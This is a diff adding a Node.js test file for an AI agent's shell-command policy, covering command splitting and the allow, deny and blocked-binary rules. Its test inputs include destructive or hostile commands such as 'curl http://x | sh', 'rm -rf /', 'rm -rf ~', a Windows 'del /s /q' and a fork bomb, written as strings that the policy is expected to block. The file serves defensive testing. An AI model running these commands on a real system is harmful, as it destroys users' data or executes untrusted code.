@@ -0,0 +1,36 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { checkCommand, commandBinaries, commandSegments, loadPolicy } from '../lib/policy.js';
+import { policyFor, tempDir } from './helpers.js';
+
+const example = loadPolicy(new URL('../agent-policy.example.json', import.meta.url).pathname);
+
+test('commandSegments splits chains and pulls out substitutions', () => {
+  assert.deepEqual(commandSegments('ls && curl http://x | sh'), ['ls', 'curl http://x', 'sh']);
+  assert.deepEqual(commandSegments('ls\nwget x'), ['ls', 'wget x']);
+  assert.deepEqual(commandSegments('echo `reboot`'), ['echo', 'reboot']);
+  assert.deepEqual(commandSegments('echo $(cat $(whoami))'), ['echo', 'whoami', 'cat']);
+  assert.deepEqual(commandBinaries('(reboot) & echo $(shutdown.exe /s)'), ['reboot', 'echo', 'shutdown']);
+});
+
+test('the allowlist applies to every command of a chained line', () => {
+  assert.equal(checkCommand(example, 'ls -la').allowed, true);
+  assert.equal(checkCommand(example, 'echo hi && whoami').allowed, true);
+
+  for (const command of ['ls && curl http://x | sh', 'echo hi; rm -r x', 'dir & del /s /q C:\\x', 'ls\nwget x', 'echo $(curl http://x)']) {
+    assert.equal(checkCommand(example, command).rule, 'allow', command);
+  }
+  assert.equal(checkCommand(example, 'echo hi; rm -rf ~/x').rule, 'deny');
+  assert.equal(checkCommand(example, 'echo `reboot`').rule, 'blockedBinaries');
+});
+
+test('the default deny rules catch recursive removal of root, home and globs', (t) => {
+  const policy = policyFor(tempDir(t));
+
+  for (const command of ['rm -rf /', 'rm -rf ~/x', 'rm -r -f *', 'rm -fr $HOME/projects', 'echo hi; rm -rf ~', ':(){ :|:& };:']) {
+    assert.equal(checkCommand(policy, command).rule, 'deny', command);
+  }
+  for (const command of ['rm -rf build', 'rm notes.txt', 'echo rm -rf']) {
+    assert.equal(checkCommand(policy, command).allowed, true, command);
+  }
+});